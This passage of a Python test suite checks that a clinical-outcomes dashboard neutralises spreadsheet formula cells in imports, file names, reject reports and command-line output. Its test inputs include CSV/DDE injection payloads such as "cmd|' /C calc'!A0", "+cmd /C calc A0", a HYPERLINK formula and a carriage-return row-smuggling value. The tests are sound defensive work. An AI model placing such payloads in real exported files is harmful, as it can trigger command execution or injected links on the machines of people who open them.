        for r in range(data.draw(st_.integers(1, 4))):
            row = [data.draw(st_.one_of(formulas(), st_.sampled_from(GOOD[h]))) for h in header]
            if data.draw(st_.booleans()):
                row[0] = f"F{r}"  # a valid key, so some rows store and their formula cells must not
            rows.append(row)
        suffix = data.draw(st_.sampled_from([".csv", ".xlsx", ".parquet"]))
        paths.append(write_table(fresh(tmp_path, suffix), header, rows))
    reports = import_files(con, paths, after_import=derive.rebuild)
    for report in reports:
        assert_clean_outcome(con, report)
    out = tmp_path / "rejects.csv"
    write_rejects_csv(reports, out)
    assert formula_cells(out.read_bytes()) == []
    assert formula_cells(to_csv_bytes(rejects_frame(reports))) == []
    for table in ("clients", "sessions", "scores", "import_log", "import_rejects"):
        assert formula_cells(to_csv_bytes(con.execute("select * from query_table($t)", {"t": table}).df())) == [], table
    assert stored_formulas(con) == []


def test_formula_cells_through_the_command_line_import(tmp_path):
    hyper = '=HYPERLINK("http://x","y")'
    files = []
    for kind in ("clients", "sessions", "scores"):
        header = KIND_HEADERS[kind]
        rows = [[hyper] * len(header), *([f"{p}cmd|' /C calc'!A0"] * len(header) for p in "+-@")]
        good = [GOOD[h][0] for h in header]
        for j in range(1, len(header)):  # a valid row but for one formula cell, in each column in turn
            rows.append([f"R{j}", *good[1:j], hyper, *good[j + 1 :]])
        files.append(write_table(tmp_path / f"{kind}.csv", header, rows))
    db, out = tmp_path / "formulas.duckdb", tmp_path / "rejects.csv"
    done = run_cli("import", "--db", db, "--rejects", out, *files, tmp_path=tmp_path)
    assert done.returncode == 1, done.stderr[-2000:]  # rows were rejected
    assert "Traceback" not in done.stderr and "Traceback" not in done.stdout
    assert "wrote" in done.stdout
    data = out.read_bytes()
    assert formula_cells(data) == []
    assert "'=•••••••••(" in data.decode("utf-8")  # its shape shown (a value that failed a check), quoted
    con = store.connect(db)
    try:
        assert stored_formulas(con) == []
        assert store.check_integrity(con) == []
        reasons = [r for (r,) in con.execute("select reason from import_rejects").fetchall()]
        assert any(r.startswith("starts with =") for r in reasons), reasons
    finally:
        con.close()


def test_an_upload_named_as_a_formula_is_neutralised(con, write_file):
    path = write_file("tmp.csv", "client_id,prior_treatments\nN1,-1\n")
    name = '=HYPERLINK("http://x","y").csv'
    (report,) = import_files(con, [path], names=[name])
    assert report.file == name
    assert formula_cells(to_csv_bytes(rejects_frame([report]))) == []
    assert stored_formulas(con) == []


@settings(max_examples=60, deadline=None, derandomize=True)
@given(
    st_.lists(
        st_.tuples(
            st_.one_of(formulas(), st_.text(max_size=8), st_.sampled_from(NASTY)),
            st_.one_of(formulas(), st_.text(max_size=8)),
            st_.one_of(st_.none(), st_.integers(-5, 5), st_.floats(allow_nan=True)),
        ),
        min_size=0,
        max_size=6,
    ),
    st_.sampled_from(["object", "str", "category"]),
    st_.one_of(formulas(), st_.just("=dup")),
)
def test_to_csv_bytes_leaves_no_formula_in_any_cell(rows, text_dtype, name):
    frame = pd.DataFrame(rows, columns=["a", name, "n"])
    frame["a"] = frame["a"].astype(text_dtype)
    if name == "=dup":
        frame.columns = ["=dup", "=dup", "n"]  # repeated names, as a pivot may produce
    data = to_csv_bytes(frame)
    assert formula_cells(data) == []
    assert len(pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False)) == len(frame)


@pytest.mark.parametrize(
    "value, shown",
    [
        ("-12.5", "-12.5"),
        ("-3e2", "-3e2"),
        ("-0", "-0"),
        ("-inf", "'-inf"),
        ("-nan", "'-nan"),
        ("-1_000", "'-1_000"),
        (" -1", "' -1"),
        ("+5", "'+5"),
        ("=1+1", "'=1+1"),
        (" =1+1", "' =1+1"),
        ("\n=1", "'\n=1"),
        ("\t=1", "'\t=1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("plain", "plain"),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_keeps_only_plain_negative_numbers(value, shown):
    from dashboard.export import neutralise

    assert neutralise(value) == shown


def test_a_carriage_return_cannot_start_a_new_row_in_a_csv():
    data = to_csv_bytes(pd.DataFrame({"site": ['North\r=HYPERLINK("http://x","y")', "South\n@SUM(1)"]}))
    assert formula_cells(data) == []
    assert list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""))) == [
        ["site"],
        ['North\r=HYPERLINK("http://x","y")'],
        ["South\n@SUM(1)"],
    ]


def test_the_outcomes_command_csv_neutralises_group_labels(tmp_path):
    db = tmp_path / "labels.duckdb"
    sessions = ["client_id,session_at,modality,clinician_id,site"]
    scores = ["client_id,assessed_at,instrument,score"]
    for i in range(1, 13):
        sessions.append(f"Q{i},2024-01-0{i % 9 + 1}T09:00,+cmd /C calc A0,CL1,-2+3")
        scores += [f"Q{i},2024-01-01,PHQ-9,20", f"Q{i},2024-01-29,PHQ-9,5"]
    files = []
    for name, rows in (("s.csv", sessions), ("sc.csv", scores)):
        (tmp_path / name).write_text("\n".join(rows) + "\n", encoding="utf-8")
        files.append(tmp_path / name)
    con = store.connect(db)
    try:
        assert all(r.ok for r in import_files(con, files, after_import=derive.rebuild))
        # a clinician code cannot start with @ since code_form: as a store written by an older version holds it
        con.execute("update sessions set clinician_id = '@SUM(1+1)'")
        derive.rebuild(con)
    finally:
        con.close()
    for by in ("modality", "clinician", "site"):
        done = run_cli("outcomes", "--db", db, "--instrument", "PHQ-9", "--by", by, tmp_path=tmp_path)
        assert done.returncode == 0, done.stderr[-500:]
        assert formula_cells(done.stdout.encode("utf-8")) == [], by
